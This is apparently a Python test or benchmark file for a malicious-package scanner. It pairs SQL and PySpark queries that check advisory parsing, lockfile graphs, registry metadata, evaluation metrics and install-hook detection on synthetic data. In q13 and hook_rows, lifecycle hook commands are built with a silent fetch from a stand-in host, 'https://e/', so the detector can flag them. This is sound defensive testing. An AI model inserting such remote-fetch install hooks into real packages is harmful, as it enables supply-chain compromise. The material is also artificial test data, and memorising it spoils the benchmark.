_PKG = "CASE WHEN s_suppkey % 11 = 0 THEN 'pyyaml' ELSE concat('pkg', s_suppkey % 5) END"


@query(
    "q68_advisory_parse",
    f"""WITH p AS (SELECT s_suppkey AS k, {_PKG} AS package FROM supplier), x AS (SELECT *, CASE WHEN k % 2 = 0 THEN 9.8 ELSE k % 10 + 0.5 END::DOUBLE AS cvss FROM p)
    SELECT package, CASE WHEN k % 3 = 0 THEN 'CVE-1-' ELSE 'GHSA-' END || k AS id, CASE WHEN k % 3 = 0 THEN 'CVE-1-' ELSE 'CVE-2-' END || k AS cve,
        CASE WHEN k % 7 = 0 THEN 'MODERATE' WHEN cvss >= 9 THEN 'CRITICAL' WHEN cvss >= 7 THEN 'HIGH' WHEN cvss >= 4 THEN 'MODERATE' ELSE 'LOW' END AS severity, cvss,
        CASE WHEN package <> 'pyyaml' THEN '0' END AS introduced, CASE WHEN package <> 'pyyaml' THEN '1.' || k END AS fixed, 'u' || k AS refs,
        CASE WHEN k % 4 = 1 THEN 'Abe,Zed,mid' WHEN package = 'pyyaml' THEN 'yaml.load,yaml.unsafe_load,yaml.full_load,load' WHEN k % 3 = 0 THEN 'parse,yaml.load' WHEN k % 3 = 1 THEN 'parse,run_it' ELSE 'parse' END AS symbols,
        CASE WHEN k % 4 = 1 THEN 'structured' WHEN package = 'pyyaml' THEN 'curated' ELSE 'parsed' END AS symbol_confidence FROM x""",
)
def q68(spark, sf_dir):
    docs = table(spark, sf_dir, "supplier").select(F.lit("PyPI").alias("ecosystem"), F.expr(_PKG).alias("package"), F.expr(_DOC).alias("text"))
    d = advisories.parse(docs)
    return d.select("package", "id", "cve", "severity", "cvss", "introduced", "fixed", F.array_join("references", ",").alias("refs"), F.array_join("symbols", ",").alias("symbols"), "symbol_confidence")


@query(
    "q32_symbol_extraction",
    "WITH d AS (SELECT doc_id, coalesce(text, '') || ' `' || replace(coalesce(lang, 'none'), '-', '_') || '_call()` and run_' || coalesce(lang, 'x') || '() ' AS t FROM documents), s AS (SELECT doc_id, list_distinct(list_concat(regexp_extract_all(t, '`([A-Za-z_$][\\w$.]{2,60})(?:\\(\\))?`', 1), "
    "regexp_extract_all(t, '\\b([A-Za-z_$][\\w$]*(?:\\.[A-Za-z_$][\\w$]*)*)\\s*\\(\\s*\\)', 1))) AS s FROM d) SELECT doc_id, array_to_string(list_sort(list_filter(s, lambda x: length(x) >= 3 AND NOT list_contains("
    + repr(P.SYMBOL_STOPWORDS) + ", lower(string_split(x, '.')[-1])) AND NOT regexp_matches(lower(x), '^(cve-|ghsa-|http)')))[1:12], ',') AS symbols FROM s",
)
def q32(spark, sf_dir):
    lang = F.coalesce("lang", F.lit("none"))
    prose = F.concat(F.coalesce("text", F.lit("")), F.lit(" `"), F.replace(lang, F.lit("-"), F.lit("_")), F.lit("_call()` and run_"), F.coalesce("lang", F.lit("x")), F.lit("() "))
    return table(spark, sf_dir, "documents").select("doc_id", F.array_join(advisories.parsed_symbols(prose), ",").alias("symbols"))


#: Lock files: one project for each nation, its suppliers pinned.
_LOCK = "concat('{\"packages\":{\"\":{},', concat_ws(',', collect_list(concat('\"', CASE WHEN s_suppkey % 3 = 0 THEN 'node_modules/a/' ELSE '' END, 'node_modules/', CASE WHEN s_suppkey % 2 = 0 THEN '@s/' ELSE '' END, 'p', s_suppkey, '\":{\"version\":\"1.', s_suppkey % 4, '\"', CASE WHEN s_suppkey % 5 = 0 THEN ',\"dev\":true' ELSE '' END, CASE WHEN s_suppkey % 13 = 0 THEN ',\"link\":true' ELSE '' END, '}'))), '}}')"
_PINNED = "p AS (SELECT s_nationkey::VARCHAR AS project, CASE WHEN s_suppkey % 2 = 0 THEN '@s/' ELSE '' END || 'p' || s_suppkey AS name, '1.' || (s_suppkey % 4) AS version, s_suppkey AS k FROM supplier WHERE s_suppkey % 13 <> 0)"


def lock_files(spark, sf_dir) -> DataFrame:
    return table(spark, sf_dir, "supplier").groupBy(F.col("s_nationkey").cast("string").alias("project")).agg(F.expr(_LOCK).alias("text"))


@query("q69_lockfile_graph", f"WITH {_PINNED}, o AS (SELECT *, row_number() OVER (PARTITION BY project ORDER BY name) AS n, count(*) OVER (PARTITION BY project) > 750 AS truncated FROM p WHERE k % 5 <> 0) SELECT project, name, version, 0 AS depth, k % 7 = 0 AS is_direct, CASE WHEN k % 7 = 0 THEN '^1' END AS requested, truncated FROM o WHERE n <= 750")
def q69(spark, sf_dir):
    from ..sources import manifests

    pinned = manifests.package_lock(lock_files(spark, sf_dir))
    asked = table(spark, sf_dir, "supplier").where("s_suppkey % 7 = 0").select(F.col("s_nationkey").cast("string").alias("project"), F.expr("concat(CASE WHEN s_suppkey % 2 = 0 THEN '@S/' ELSE '' END, 'P', s_suppkey)").alias("name"), F.lit("^1").alias("spec"))
    return lockfiles.graph(pinned, asked)


@query("q69b_lockfile_packages", f"WITH {_PINNED} SELECT DISTINCT 'npm' AS ecosystem, name, version FROM p")
def q69b(spark, sf_dir):
    return lockfiles.package_list(lock_files(spark, sf_dir))


@query("q70_shallowest_packages", "SELECT scan, name, depth FROM (SELECT s_nationkey AS scan, s_name AS name, s_suppkey % 6 AS depth, row_number() OVER (PARTITION BY s_nationkey ORDER BY s_suppkey % 6, s_name) AS n FROM supplier) WHERE n <= 5")
def q70(spark, sf_dir):
    nodes = table(spark, sf_dir, "supplier").select(F.col("s_nationkey").alias("scan"), F.col("s_name").alias("name"), F.expr("s_suppkey % 6").alias("depth"))
    return lockfiles.shallowest(nodes, 5)


@query("q70b_graph_views", "SELECT s_nationkey AS project, count(*) AS packages, count(*) FILTER (WHERE s_suppkey % 4 = 0) AS direct, count(*) FILTER (WHERE s_suppkey % 4 <> 0) AS transitive, max(s_suppkey % 6) AS max_depth FROM supplier GROUP BY ALL")
def q70b(spark, sf_dir):
    return lockfiles.views(table(spark, sf_dir, "supplier").select(F.col("s_nationkey").alias("project"), F.expr("s_suppkey % 4 = 0").alias("is_direct"), F.expr("s_suppkey % 6").alias("depth")))


#: What packages ship: a nested and a top package.json, and a PKG-INFO.
_JSON = "concat('{\"name\":\"n\",\"description\":\"', p_brand, '\",\"repository\":', CASE p_size % 3 WHEN 0 THEN '\"git://r\"' WHEN 1 THEN '{\"type\":\"git\",\"url\":\"https://u\"}' ELSE 'null' END, ',\"scripts\":{\"test\":\"t\",\"postinstall\":\"', p_type, '\",\"install\":\"\"},\"dependencies\":{\"z\":\"1\",\"a', p_size % 4, '\":\"2\"}}')"
_INFO = "concat('Metadata-Version: 2.1\\nSummary: ', p_brand, '\\nSummary: ', p_type, '\\nLicense:\\nProject-URL: Docs, https://d\\nProject-URL: Source, https://s', p_size, '\\nProject-URL: Source, https://t\\n')"


@query(
    "q71_shipped_npm",
    "SELECT 'pkg' || p_partkey AS package, p_brand AS description, CASE p_size % 3 WHEN 0 THEN 'git://r' WHEN 1 THEN 'https://u' END AS repository_url, p_type AS postinstall, 1 AS hooks, 'a' || (p_size % 4) || ',z' AS dependencies FROM part",
)
def q71(spark, sf_dir):
    p = part(spark, sf_dir).select(F.expr("concat('pkg', p_partkey)").alias("package"), F.expr(_JSON).alias("text"))
    files = p.select("package", F.explode(F.expr("array(struct('package/package.json' AS path, text AS text), struct('package/lib/deep/package.json' AS path, '{}' AS text), struct('index.js' AS path, 'x' AS text))")).alias("f")).select("package", "f.*")
    return shipped.npm(files).select("package", "description", "repository_url", F.col("install_scripts")["postinstall"].alias("postinstall"), F.size("install_scripts").alias("hooks"), F.array_join("dependency_names", ",").alias("dependencies"))


@query("q71b_shipped_pypi", "SELECT 'pkg' || p_partkey AS package, p_type AS description, 'Source, https://s' || p_size AS repository_url, NULL::VARCHAR AS license FROM part")
def q71b(spark, sf_dir):
    p = part(spark, sf_dir).select(F.expr("concat('pkg', p_partkey)").alias("package"), F.lit("pkg-1/PKG-INFO").alias("path"), F.expr(_INFO).alias("text"))
    other = p.withColumns({"path": F.lit("METADATA"), "text": F.lit("Summary: other")})
    return shipped.pypi(p.unionByName(other)).select("package", "description", "repository_url", "license")


@query(
    "q72_archive_contents",
    "SELECT doc_id % 50 AS archive, count(*) AS files, sum(n_chars)::BIGINT AS bytes, count(*) FILTER (WHERE doc_id % 4 < 3) AS readable FROM documents GROUP BY ALL",
)
def q72(spark, sf_dir):
    path = F.expr("concat('src/f', doc_id, CASE doc_id % 4 WHEN 0 THEN '.PY' WHEN 1 THEN '.min.js' WHEN 2 THEN '/PKG-INFO' ELSE '.png' END)")
    rows = table(spark, sf_dir, "documents").select(F.expr("doc_id % 50").alias("archive"), path.alias("path"), F.col("n_chars").alias("size"), F.lit(None).cast("string").alias("truncated"))
    return archives.contents(rows).select("archive", "files", "bytes", "readable")


@query("q72b_utf8_texts", "SELECT doc_id, sha256(coalesce(text, '') || chr(65533)) AS sha256 FROM documents")
def q72b(spark, sf_dir):
    content = F.concat(F.coalesce("text", F.lit("")).cast("binary"), F.unhex(F.lit("FF")))
    return table(spark, sf_dir, "documents").select("doc_id", F.sha2(archives.text_of(content), 256).alias("sha256"))


_SCORED_ROWS = "scored AS (SELECT doc_id, quality AS label, (n_chars % 64) / 64.0::DOUBLE AS score, (n_chars % 5)::INT AS fold, source FROM labels JOIN documents USING (doc_id))"


def scored(spark, sf_dir) -> DataFrame:
    docs = table(spark, sf_dir, "documents").select("doc_id", "n_chars", "source")
    return table(spark, sf_dir, "labels").join(docs, "doc_id").select("doc_id", F.col("quality").alias("label"), ((F.col("n_chars") % 64) / 64.0).alias("score"), F.expr("CAST(n_chars % 5 AS INT)").alias("fold"), "source")


_RATES = "coalesce(tp / nullif(tp + fp, 0), 0) AS precision, coalesce(tp / nullif(tp + fn, 0), 0) AS recall, coalesce(2 * tp / nullif(2 * tp + fp + fn, 0), 0) AS f1"
_COUNTS = "count(*) FILTER (WHERE score >= 0.5 AND label = 1) AS tp, count(*) FILTER (WHERE score >= 0.5 AND label = 0) AS fp, count(*) FILTER (WHERE score < 0.5 AND label = 1) AS fn"


@query("q73_fold_spread", f"WITH {_SCORED_ROWS}, c AS (SELECT fold, {_COUNTS} FROM scored GROUP BY fold), m AS (SELECT {_RATES} FROM c) SELECT count(*) AS folds, round(stddev_pop(precision), 6) AS precision_std, round(stddev_pop(recall), 6) AS recall_std, round(stddev_pop(f1), 6) AS f1_std FROM m")
def q73(spark, sf_dir):
    s = evaluation.fold_spread(scored(spark, sf_dir))
    return s.select("folds", *[F.round(c, 6).alias(c) for c in ("precision_std", "recall_std", "f1_std")])


@query(
    "q74_curves",
    f"WITH {_SCORED_ROWS}, g AS (SELECT score, sum(label) AS pos, count(*) AS n FROM scored GROUP BY score), c AS (SELECT score, sum(pos) OVER w AS tp, sum(n) OVER w AS n FROM g WINDOW w AS (ORDER BY score DESC)) "
    "SELECT score, round(tp / n, 6) AS precision, round(tp / (SELECT sum(pos) FROM g), 6) AS recall, round((n - tp) / (SELECT sum(n - pos) FROM g), 6) AS false_positive_rate FROM c",
)
def q74(spark, sf_dir):
    return evaluation.curves(scored(spark, sf_dir)).select("score", *[F.round(c, 6).alias(c) for c in ("precision", "recall", "false_positive_rate")])


@query(
    "q75_combined_sources",
    "SELECT provenance, malicious, count(*) AS n FROM (SELECT 'corpus' AS provenance, event_type IN ('error', 'purchase') AS malicious FROM events UNION ALL SELECT 'benchmark', quality = 1 FROM labels) GROUP BY ALL",
)
def q75(spark, sf_dir):
    tags = F.expr("CASE event_type WHEN 'error' THEN array('malware', 'x') WHEN 'purchase' THEN array('malicious') ELSE array(event_type) END")
    corpus = table(spark, sf_dir, "events").select(evaluation.is_malicious(tags).alias("malicious"))
    other = table(spark, sf_dir, "labels").select((F.col("quality") == 1).alias("malicious"))
    return evaluation.combined({"corpus": corpus, "benchmark": other}).groupBy("provenance", "malicious").agg(F.count(F.lit(1)).alias("n"))


@query("q75b_common_rows", "SELECT doc_id FROM documents JOIN labels USING (doc_id) WHERE doc_id IN (SELECT vec_id FROM embeddings)")
def q75b(spark, sf_dir):
    e = table(spark, sf_dir, "embeddings").select(F.col("vec_id").alias("doc_id"))
    return evaluation.common_rows([table(spark, sf_dir, "documents"), table(spark, sf_dir, "labels"), e], "doc_id")


@query("q75c_sample_keys", "SELECT '@s/' || replace(p_name, ' ', '-') AS name, p_size || '.0.1' AS version, count(*) AS n FROM part GROUP BY ALL")
def q75c(spark, sf_dir):
    name, version = evaluation.sample_key(F.col("key"))
    return part(spark, sf_dir).select(F.expr("concat('@s##', replace(p_name, ' ', '-'), '/', p_size, '.0.1')").alias("key")).groupBy(name.alias("name"), version.alias("version")).agg(F.count(F.lit(1)).alias("n"))


@query("q76_importers", "SELECT package, count(*) AS n, array_to_string(list_sort(list(path))[1:8], ',') AS importers FROM (SELECT DISTINCT 'lib' || (p_size % 9) AS package, 'f' || p_partkey || '.js' AS path FROM part) GROUP BY package")
def q76(spark, sf_dir):
    files = part(spark, sf_dir).select(F.expr("concat('f', p_partkey, '.js')").alias("path"), F.expr("concat('import a, {b} from \"lib', p_size % 9, '/sub\";\\nconst x = require(\"./own\");require(''node:fs'');')").alias("source"))
    return graph.importers(javascript.imports(files)).select("package", "n", F.array_join("importers", ",").alias("importers"))


@query("q33_js_import_graph", "SELECT 'f' || p_partkey || '.js' AS path, unnest(CASE WHEN p_size % 2 = 0 THEN ['@sc/' || lower(p_brand), 'left-pad'] ELSE ['left-pad'] END) AS package FROM part")
def q33(spark, sf_dir):
    source = "concat(CASE WHEN p_size % 2 = 0 THEN concat('import x from \"@sc/', p_brand, '/deep/er\"\\n') ELSE '' END, 'var l = require( \"left-pad\" ); import(\"./near\"); require(\"node:fs\"); require(\"/abs\")')"
    files = part(spark, sf_dir).select(F.expr("concat('f', p_partkey, '.js')").alias("path"), F.expr(source).alias("source"))
    return javascript.imports(files).where("package IS NOT NULL").select("path", "package").distinct()


_QUEUE = "SELECT s_nationkey AS scan, s_name AS package, (s_suppkey % 64) / 64.0::DOUBLE AS score FROM supplier"


@query("q77_review_queue", f"SELECT *, place <= 25 AS explained FROM (SELECT scan, package, score, row_number() OVER (PARTITION BY scan ORDER BY score DESC, package)::INT AS place FROM ({_QUEUE}) WHERE score >= 0.3) WHERE place <= 30")
def q77(spark, sf_dir):
    rows = table(spark, sf_dir, "supplier").select(F.col("s_nationkey").alias("scan"), F.col("s_name").alias("package"), F.expr("(s_suppkey % 64) / 64D").alias("score"))
    return history.review_queue(rows.withColumn("verdict", signals.verdict(F.col("score")))).select("scan", "package", "score", "place", "explained")


@query("q77b_flagged_packages", f"SELECT scan, package, score, CASE WHEN score >= 0.6 THEN 'malicious' ELSE 'suspicious' END AS verdict FROM ({_QUEUE}) WHERE score >= 0.3")
def q77b(spark, sf_dir):
    rows = table(spark, sf_dir, "supplier").select(F.col("s_nationkey").alias("scan"), F.col("s_name").alias("package"), F.expr("(s_suppkey % 64) / 64D").alias("score"))
    return history.flagged(rows.withColumn("verdict", signals.verdict(F.col("score"))))


@query(
    "q78_explanations",
    _SIGNALS + ", m(code, family, severity, rank) AS (VALUES " + ", ".join(f"('{c}', '{f}', '{s}', {P.SEVERITY_RANK[s]})" for c, f, s, _ in P.SIGNALS) + "), j AS (SELECT * FROM s JOIN m USING (code)), "
    "c AS (SELECT package, severity, rank, count(*) AS n FROM j GROUP BY ALL), f AS (SELECT package, string_agg(n || ' ' || severity, ', ' ORDER BY rank DESC) FILTER (WHERE rank >= 2) AS phrase, sum(n) AS n FROM c GROUP BY package), "
    "l AS (SELECT package, code, path FROM (SELECT *, row_number() OVER (PARTITION BY package ORDER BY rank DESC, code, path NULLS FIRST) AS k FROM j) WHERE k = 1), i AS (SELECT package, bool_or(family = 'install_hook' OR regexp_matches(code, 'INSTALL|SETUP_PY')) AS install FROM j GROUP BY package) "
    "SELECT 'pkg' || p_partkey AS package, CASE WHEN n IS NULL THEN 'pkg' || p_partkey || ' 1.0 raised no signal.' ELSE 'pkg' || p_partkey || ' 1.0 is benign: ' || n || ' findings (' || coalesce(phrase, 'no high-severity findings') || '). Strongest: ' || lower(replace(l.code, '_', ' ')) || coalesce(' in ' || l.path, '') || '.' "
    "|| CASE WHEN p_size % 9 = 0 THEN ' Its name is close to ' || p_brand || '.' ELSE '' END || CASE WHEN install THEN ' Part of it runs when the package is installed.' ELSE '' END END AS explanation "
    "FROM part LEFT JOIN f ON f.package = 'pkg' || p_partkey LEFT JOIN l ON l.package = 'pkg' || p_partkey LEFT JOIN i ON i.package = 'pkg' || p_partkey",
)
def q78(spark, sf_dir):
    p = part(spark, sf_dir).select(F.expr("concat('pkg', p_partkey)").alias("package"), F.lit("1.0").alias("version"), F.lit("benign").alias("verdict"), "p_size", "p_brand")
    return history.explanations(p.select("package", "version", "verdict"), package_signals(spark, sf_dir), p.where("p_size % 9 = 0").select("package", F.col("p_brand").alias("target")))


@query("q79_live_jobs", "SELECT event_id AS job_id FROM events WHERE event_type = 'click' OR ts >= (SELECT max(ts) FROM events) - INTERVAL 1 HOUR ORDER BY ts DESC, event_id LIMIT 200")
def q79(spark, sf_dir):
    e = table(spark, sf_dir, "events")
    now = e.agg(F.max("ts")).first()[0]
    jobs = e.select(F.col("event_id").alias("job_id"), F.col("ts").alias("created_at"), F.when(F.col("event_type") != "click", F.col("ts")).alias("finished_at"))
    return progress.live_jobs(jobs, F.lit(now)).select("job_id")


@query("q79b_event_lines", "SELECT conv_id, string_agg('{\"role\":\"' || role || '\",\"size\":' || length(text) || '}', chr(10) ORDER BY turn) AS lines FROM conversations GROUP BY conv_id")
def q79b(spark, sf_dir):
    turns = table(spark, sf_dir, "conversations").select("conv_id", "turn", "role", F.char_length("text").alias("size"))
    return progress.lines(turns, "conv_id", "turn")


@query("q80_fenced_objects", "SELECT event_id, CASE WHEN event_id % 4 < 3 THEN json_extract(props, '$.k')::BIGINT END AS k FROM events")
def q80(spark, sf_dir):
    text = F.expr("CASE event_id % 4 WHEN 0 THEN props WHEN 1 THEN concat('```json\\n', props, '\\n```') WHEN 2 THEN concat(' ```\\n', props, ' ```  ') ELSE concat('[', props, ']') END")
    return table(spark, sf_dir, "events").select("event_id", history.fenced_object(text, "struct<k:long>")["k"].alias("k"))


@query("q80b_payloads", f"SELECT package, '{{\"package\":\"' || package || '\",\"score\":' || score || ',\"verdict\":\"' || verdict || '\",\"findings\":' || findings || ',\"reachable\":' || reachable || ',\"flagged\":' || (verdict <> 'benign') || ',\"noise_reduction\":' || noise || '}}' AS payload FROM (SELECT s_name AS package, 0.5 AS score, CASE WHEN s_suppkey % 2 = 0 THEN 'benign' ELSE 'malicious' END AS verdict, 4 AS findings, s_suppkey % 5 AS reachable, (4 - s_suppkey % 5) / 4 AS noise FROM supplier)")
def q80b(spark, sf_dir):
    p = table(spark, sf_dir, "supplier").select(F.col("s_name").alias("package"), F.lit(0.5).alias("score"), F.expr("CASE WHEN s_suppkey % 2 = 0 THEN 'benign' ELSE 'malicious' END").alias("verdict"), F.lit(4).alias("findings"), F.expr("s_suppkey % 5").alias("reachable"))
    return history.payloads(p)


@query("q81_sample_list", "SELECT doc_id AS sample_id FROM documents WHERE source LIKE '%e%' AND doc_id % 3 = 0 ORDER BY source, doc_id LIMIT 50")
def q81(spark, sf_dir):
    s = table(spark, sf_dir, "documents").select(F.col("doc_id").alias("sample_id"), F.col("source").alias("name"), F.expr("CASE WHEN doc_id % 3 = 0 THEN 'malicious' ELSE 'benign' END").alias("label"))
    return history.sample_list(s, "E").select("sample_id")


_NPM_DOC = "concat('{\"name\":\"', replace(p_name, ' ', '-'), p_partkey, '\",\"repository\":{\"type\":\"git\",\"url\":\"git+https://g/', p_partkey, '.git\"},\"maintainers\":[\"a\",\"b\"],\"dist-tags\":{\"latest\":\"1.0.', p_size, '\"},\"versions\":{\"1.0.', p_size, '\":{\"description\":\"', p_brand, '\",\"dependencies\":{\"dep', p_size % 5, '\":\"^1\"},\"scripts\":{\"postinstall\":\"node x\",\"test\":\"t\"}},\"0.9.0\":{}}}')"


@query(
    "q82_npm_metadata",
    "SELECT replace(p_name, ' ', '-') || p_partkey AS name, v AS version, CASE WHEN v <> '0.9.0' THEN p_brand END AS description, 'https://g/' || p_partkey AS repository_url, 2 AS maintainer_count, 2 AS version_count, CASE WHEN v <> '0.9.0' THEN 'dep' || (p_size % 5) ELSE '' END AS dependencies, CASE WHEN v <> '0.9.0' THEN 'postinstall' ELSE '' END AS hooks "
    "FROM (SELECT *, unnest(['1.0.' || p_size, '0.9.0']) AS v FROM part)",
)
def q82(spark, sf_dir):
    m = registry.npm_metadata(stored(part(spark, sf_dir), "concat('https://npm/', p_partkey)", _NPM_DOC))
    return m.select("name", "version", "description", "repository_url", "maintainer_count", "version_count", F.array_join("dependency_names", ",").alias("dependencies"), F.array_join(F.map_keys("install_scripts"), ",").alias("hooks"))


@query("q82b_npm_dependencies", "SELECT replace(p_name, ' ', '-') || p_partkey AS name, '1.0.' || p_size AS version, 'dep' || (p_size % 5) AS dependency, '^1' AS range FROM part")
def q82b(spark, sf_dir):
    return registry.npm_dependencies(part(spark, sf_dir).select(F.expr(_NPM_DOC).alias("text")))


_PYPI_DOC = (
    "concat('{\"info\":{\"name\":\"P', p_partkey, '\",\"summary\":\"', p_brand, '\",\"author\":\"', CASE WHEN p_size % 2 = 0 THEN 'x' ELSE '' END, '\",\"home_page\":\"https://github.com/h\",\"project_urls\":', CASE WHEN p_size % 3 = 0 THEN '{\"Docs\":\"d\",\"Source Code\":\"https://s\"}' ELSE 'null' END, "
    "',\"requires_dist\":[\"Six >=1\",\"tests ; extra == t\",\"attrs; python_version>3\"]},\"releases\":{\"1.', p_size, '\":[{\"filename\":\"a-cp3.whl\",\"packagetype\":\"bdist_wheel\"},{\"filename\":\"a-py3-none-any.whl\",\"packagetype\":\"bdist_wheel\"}', CASE WHEN p_size % 4 = 0 THEN ',{\"filename\":\"a.tar.gz\",\"packagetype\":\"sdist\"}' ELSE '' END, ']}}')"
)


@query(
    "q83_pypi_metadata",
    "SELECT 'p' || p_partkey AS name, '1.' || p_size AS version, p_brand AS description, CASE WHEN p_size % 3 = 0 THEN 'https://s' ELSE 'https://github.com/h' END AS repository_url, (p_size % 2 = 0)::INT AS maintainer_count, 'six,attrs' AS dependencies, CASE WHEN p_size % 4 = 0 THEN 'a.tar.gz' ELSE 'a-py3-none-any.whl' END AS file FROM part",
)
def q83(spark, sf_dir):
    m = registry.pypi_metadata(stored(part(spark, sf_dir), "concat('https://pypi/', p_partkey)", _PYPI_DOC))
    return m.select("name", "version", "description", "repository_url", "maintainer_count", F.array_join("dependency_names", ",").alias("dependencies"), F.col("dist.filename").alias("file"))


@query(
    "q84_import_names",
    "SELECT 'dist-' || p_partkey AS distribution, CASE p_partkey % 4 WHEN 0 THEN 'top' || p_size WHEN 1 THEN 'lay' || p_size WHEN 2 THEN 'cur,top' ELSE 'dist_' || p_partkey END AS modules FROM part",
)
def q84(spark, sf_dir):
    p = part(spark, sf_dir).select(F.expr("concat('dist-', p_partkey)").alias("distribution"), (F.col("p_partkey") % 4).alias("k"), "p_size")
    top = p.where("k IN (0, 2)").select("distribution", F.expr("CASE WHEN k = 0 THEN concat('top', p_size) ELSE 'top' END").alias("module"))
    paths = p.where("k = 1").select("distribution", F.expr("concat('lay', p_size, '/__init__.py')").alias("path"))
    return registry.import_names(top, paths, p.where("k = 2").select("distribution", F.lit("cur").alias("module")), p).select("distribution", F.array_join("modules", ",").alias("modules"))


@query(
    "q85_npm_resolution",
    "WITH p AS (SELECT p_partkey AS k, p_partkey % 6 AS r FROM part) SELECT 'n' || k AS name, ['latest', '^1.0.0', '1.2.0', 'git+https://x', '^7', 'next'][r + 1] AS spec, ['2.0.0', '1.10.0', '1.2.0', NULL, NULL, '3.0.0-rc.1'][r + 1] AS version FROM p",
)
def q85(spark, sf_dir):
    k = part(spark, sf_dir).select(F.expr("concat('n', p_partkey)").alias("name"), (F.col("p_partkey") % 6).cast("int").alias("r"))
    specs = F.array(*map(F.lit, ["latest", "^1.0.0", "1.2.0", "git+https://x", "^7", "next"]))
    versions = k.select("name", F.explode(F.array(*map(F.lit, ["1.2.0", "1.10.0", "2.0.0", "3.0.0-rc.1", "0.20240101.0"]))).alias("version"))
    tags = k.select("name", F.lit("latest").alias("tag"), F.lit("2.0.0").alias("version")).unionByName(k.select("name", F.lit("next").alias("tag"), F.lit("3.0.0-rc.1").alias("version")))
    return registry.resolve_npm(k.select("name", specs[F.col("r")].alias("spec")), versions, tags)


@query(
    "q86_fresh_snapshots",
    "SELECT url, max(ts) AS fetched_at FROM (SELECT 'https://r/' || user_id AS url, ts FROM events) WHERE ts >= (SELECT max(ts) FROM events) - INTERVAL 7 DAYS GROUP BY url",
)
def q86(spark, sf_dir):
    e = table(spark, sf_dir, "events")
    now = e.agg(F.max("ts")).first()[0]
    s = e.select(F.lit("GET").alias("method"), F.expr("concat('https://r/', user_id)").alias("url"), F.lit(None).cast("string").alias("body"), F.col("props").alias("content"), F.col("ts").alias("fetched_at"))
    return registry.fresh(s, F.lit(now)).select("url", "fetched_at")


@query(
    "q86b_snapshot_lookup",
    "WITH d AS (SELECT user_id AS u, max(ts) AS ts, arg_max(event_type, (ts, event_id)) AS content FROM events WHERE ts >= (SELECT max(ts) FROM events) - INTERVAL 7 DAYS GROUP BY user_id) "
    "SELECT 'https://r/' || c_custkey AS url, d.content, d.ts AS fetched_at FROM customer LEFT JOIN d ON u = c_custkey",
)
def q86b(spark, sf_dir):
    e = table(spark, sf_dir, "events")
    now = e.agg(F.max("ts")).first()[0]
    newest = e.groupBy("user_id", "ts").agg(F.max_by("event_type", "event_id").alias("content"))
    path = shared_path(spark, "snapshots")
    snapshots.save(path, newest.select(F.lit("GET").alias("method"), F.expr("concat('https://r/', user_id)").alias("url"), F.lit(None).cast("string").alias("body"), "content", F.col("ts").alias("fetched_at")))
    asked = table(spark, sf_dir, "customer").select(F.lit("GET").alias("method"), F.expr("concat('https://r/', c_custkey)").alias("url"), F.lit(None).cast("string").alias("body"))
    return snapshots.lookup(spark, path, asked, F.lit(now)).select("url", "content", "fetched_at")


_HOOK_SQL = "CASE p_partkey % " + str(len(X.HOOKS)) + " " + " ".join(f"WHEN {i} THEN '{c.replace(chr(39), chr(39) * 2)}'" for i, (_, c) in enumerate(X.HOOKS)) + " END || CASE WHEN p_size % 2 = 0 THEN ' #' ELSE ' --silent https://e/' END || p_partkey"


@query(
    "q13_install_hooks",
    f"WITH t AS (SELECT 'hook' || p_partkey AS hook, trim({_HOOK_SQL}) AS text FROM part) " + " UNION ALL ".join(f"SELECT hook, text AS command, '{c}' AS code FROM t WHERE {x}" for c, x in text_queries.HOOK),
)
def q13(spark, sf_dir):
    from ..functions import text as T

    hooks = hook_rows(spark, sf_dir).withColumn("command", F.trim("command"))
    return hooks.select("hook", "command", F.explode(T.hook_signals(F.col("command"))).alias("code"))


def hook_rows(spark, sf_dir) -> DataFrame:
    """Each part's lifecycle command: one of the fixed commands, by its number, with its own name in it."""
    commands = F.array(*[F.lit(c) for _, c in X.HOOKS])
    p = part(spark, sf_dir)
    return p.select(F.expr("concat('hook', p_partkey)").alias("hook"), F.concat(commands[(F.col("p_partkey") % len(X.HOOKS)).cast("int")], F.when(F.col("p_size") % 2 == 0, F.lit(" #")).otherwise(F.lit(" --silent https://e/")), F.col("p_partkey").cast("string")).alias("command"))


#: A requirements file for each supplier: continued, commented, option and remote lines.
_LINES = "concat('# heading\\n-r other.txt\\nReq', s_suppkey, '[extra1,extra2] == 1.', s_suppkey % 5, ' ; python_version > ''3''  # why\\nflask>=2.0, \\\\\\n  <3\\n\\ngit+https://g/x', s_suppkey, '.git#egg=x\\n--hash=sha256:0\\nSix', CASE WHEN s_suppkey % 2 = 0 THEN '\\r\\n' ELSE '' END)"


@query(
    "q18_manifest_requirements",
    "SELECT s_name AS project, unnest(['req' || s_suppkey, 'flask', 'git+https://g/x' || s_suppkey || '.git#egg=x', 'six']) AS name, unnest(['==1.' || (s_suppkey % 5), '>=2.0,<3', '', '']) AS spec, unnest(['locked', 'runtime', 'warning', 'runtime']) AS kind FROM supplier",
)
def q18(spark, sf_dir):
    from ..sources import manifests

    lines = _LINES.replace("''3''", "\\'3\\'")
    return manifests.requirements_lines(table(spark, sf_dir, "supplier").select(F.col("s_name").alias("project"), F.expr(lines).alias("text")))


_TOML = "concat('[project]\\nname = \"x\"\\ndependencies = [\"Req', s_suppkey, '[e]>=', s_suppkey % 4, '\", \"six ; python_version > \\'3\\'\"]\\n[tool.poetry.dependencies]\\npython = \"^3\"\\nattrs = \"^', s_suppkey % 3, '\"\\nlib = {version = \"1.', s_suppkey % 7, '\", optional = true}\\n[tool.poetry.dev-dependencies]\\npytest = \"*\"\\n')"


@query(
    "q20c_manifest_pyproject",
    "SELECT s_name AS project, unnest(['req' || s_suppkey, 'six', 'attrs', 'lib', 'pytest']) AS name, unnest(['>=' || (s_suppkey % 4), '', '^' || (s_suppkey % 3), '1.' || (s_suppkey % 7), '*']) AS spec, unnest(['runtime', 'runtime', 'runtime', 'runtime', 'dev']) AS kind FROM supplier",
)
def q20c(spark, sf_dir):
    from ..sources import manifests

    return manifests.pyproject(table(spark, sf_dir, "supplier").select(F.col("s_name").alias("project"), F.expr(_TOML).alias("text")))


_LOCK1 = "concat('{\"lockfileVersion\":1,\"dependencies\":{\"a', s_suppkey, '\":{\"version\":\"1.0\",\"dependencies\":{\"@s/b\":{\"version\":\"2.', s_suppkey % 5, '\",\"dev\":true,\"dependencies\":{\"c\":{\"version\":\"3.0\"}}}}},\"d\":{\"version\":\"4.0\"}}}')"


